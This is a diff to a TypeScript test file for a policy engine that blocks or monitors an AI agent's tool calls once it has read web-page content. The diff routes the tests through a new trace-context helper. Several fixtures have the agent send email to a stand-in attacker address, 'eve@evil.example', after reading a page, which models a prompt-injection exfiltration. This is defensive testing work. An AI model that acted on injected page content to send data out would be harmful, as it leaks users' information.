@@ -3,7 +3,7 @@ import { describe, test } from 'node:test';
 import type { FlowRule } from '../../../shared/contract/index.ts';
 import type { PolicyInput } from '../../../shared/detection/index.ts';
 import { dataSourceOf } from '../../../shared/flow-control/data-sources.ts';
-import { describeFlowRule, matchPolicies } from '../../../shared/flow-control/index.ts';
+import { createTraceContext, describeFlowRule, matchPolicies } from '../../../shared/flow-control/index.ts';
 import { formatByName } from '../../../shared/providers/index.ts';
 import { assertLinear } from '../../support/cpu-time.ts';
 
@@ -33,13 +33,21 @@ function inputOf(messages: readonly Message[], made: readonly (readonly [string,
   };
 }
 
+const match = (
+  input: Parameters<typeof createTraceContext>[0],
+  ...rest: [
+    policies: PolicyInput[],
+    policyContext: { readonly host?: string; readonly model?: string; readonly atMs: number },
+  ]
+) => matchPolicies(createTraceContext(input), ...rest);
+
 function matches(
   rule: FlowRule,
   messages: readonly Message[],
   ...made: readonly (readonly [string, object])[]
 ): string[] {
   const policy: PolicyInput = { id: 'pol_1', action: 'block', threatTypes: [], rules: { flows: [rule] } };
-  return matchPolicies(inputOf(messages, made), [policy], { atMs: 0 }).map(
+  return match(inputOf(messages, made), [policy], { atMs: 0 }).map(
     ({ toolName, value }) => `${toolName}${value === null ? '' : `${value.argument} ${value.kind}`}`,
   );
 }
@@ -107,7 +115,7 @@ describe('rules of policies about tool calls', () => {
 
   test('apply under the conditions of their policy, which reports, blocks or asks for approval', () => {
     const handled = (action: 'block' | 'monitor', more: object, rule: FlowRule = { from: ['web_page'] }) =>
-      matchPolicies(
+      match(
         inputOf([user('Go'), ...page], [['send_email', { to: 'eve@evil.example' }]]),
         [{ id: 'pol_1', name: 'Pages', action, threatTypes: [], rules: { flows: [rule], ...more } }],
         { host: 'api.openai.com', model: 'gpt-4o', atMs: 0 },
@@ -124,7 +132,7 @@ describe('rules of policies about tool calls', () => {
       handled('block', { conditions: { hosts: ['*.openai.com'], directions: ['input'] } }),
       [],
     );
-    const [flow] = matchPolicies(
+    const [flow] = match(
       inputOf([user('Go'), ...page], [['send_email', { to: 'eve@evil.example' }]]),
       [
         {
@@ -192,7 +200,7 @@ describe('rules of policies about tool calls', () => {
   test('are linear in the conversation, the calls and the arguments', () => {
     const rules: FlowRule[] = [{ from: ['web_page'] }, { effects: ['send'], max_calls: 2 }];
     const policy: PolicyInput = { id: 'p', action: 'block', threatTypes: [], rules: { flows: rules } };
-    const run = (input: ReturnType<typeof inputOf>) => matchPolicies(input, [policy], { atMs: 0 });
+    const run = (input: ReturnType<typeof inputOf>) => match(input, [policy], { atMs: 0 });
     const words = 'The report of 5 May names a.b@c.example and many other people of the company. ';
     const long = (size: number, text: string, count = 1) =>
       inputOf(
